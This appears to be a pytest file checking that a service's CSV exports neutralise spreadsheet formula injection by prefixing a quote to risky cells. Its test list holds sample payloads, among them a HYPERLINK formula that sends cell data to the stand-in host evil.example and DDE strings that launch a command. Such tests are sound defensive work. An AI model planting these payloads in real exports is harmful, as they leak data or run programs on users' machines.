"""Cells a spreadsheet would read as formulas are neutralised in every CSV the product writes (OWASP)."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlmodel import Session

from service.clicks.models import Click, Verdict
from service.csv_safe import dict_writer, safe_cell
from service.links import Channel, mint
from service.models import Role
from tests.campaign_helpers import add_employees

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value):
    assert safe_cell(value) == "'" + value
    buf = io.StringIO()
    writer = dict_writer(buf, ["name", "n"])
    writer.writerow({"name": value, "n": -3})
    (row,) = list(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + value, "-3"]  # numbers the product computed stay numbers


def test_plain_values_are_untouched():
    for value in ("Sales", "R&D <Ops>", "O'Neil", "a=b", 42, 0.5, None):
        assert safe_cell(value) == value


def test_clicks_csv_neutralises_a_department_named_like_a_formula(client, tenant, db):
    hostile = HOSTILE[0]
    (emp,) = add_employees(db, tenant.org_id, [("f@acme.example", hostile, "Paris", [])])
    with Session(db, expire_on_commit=False) as s:
        link = mint(s, org_id=tenant.org_id, channel=Channel.signature_banner, employee_id=emp, campaign_id=7,
                    destination="https://acme.example/")  # fmt: skip
        s.add(Click(org_id=tenant.org_id, link_id=link.id, employee_id=emp, campaign_id=7,
                    channel=Channel.signature_banner, occurred_at=datetime.now(UTC) - timedelta(hours=1),
                    verdict=Verdict.human, visitor="v"))  # fmt: skip
        s.commit()
    text = client.get(
        "/api/analytics/clicks.csv", params={"group_by": "department"}, headers=tenant.headers(Role.comms)
    ).text
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r["department"] for r in rows] == ["'" + hostile]
    assert not re.search(r'(^|,)"?[=+\-@]', text, re.M)


def test_every_csv_writer_goes_through_the_helper():
    offenders = []
    for path in ROOT.glob("**/*.py"):
        if any(part in (".venv", "tests", "bench") for part in path.parts) or path.name == "csv_safe.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], f"write CSV with service.csv_safe.dict_writer: {offenders}"
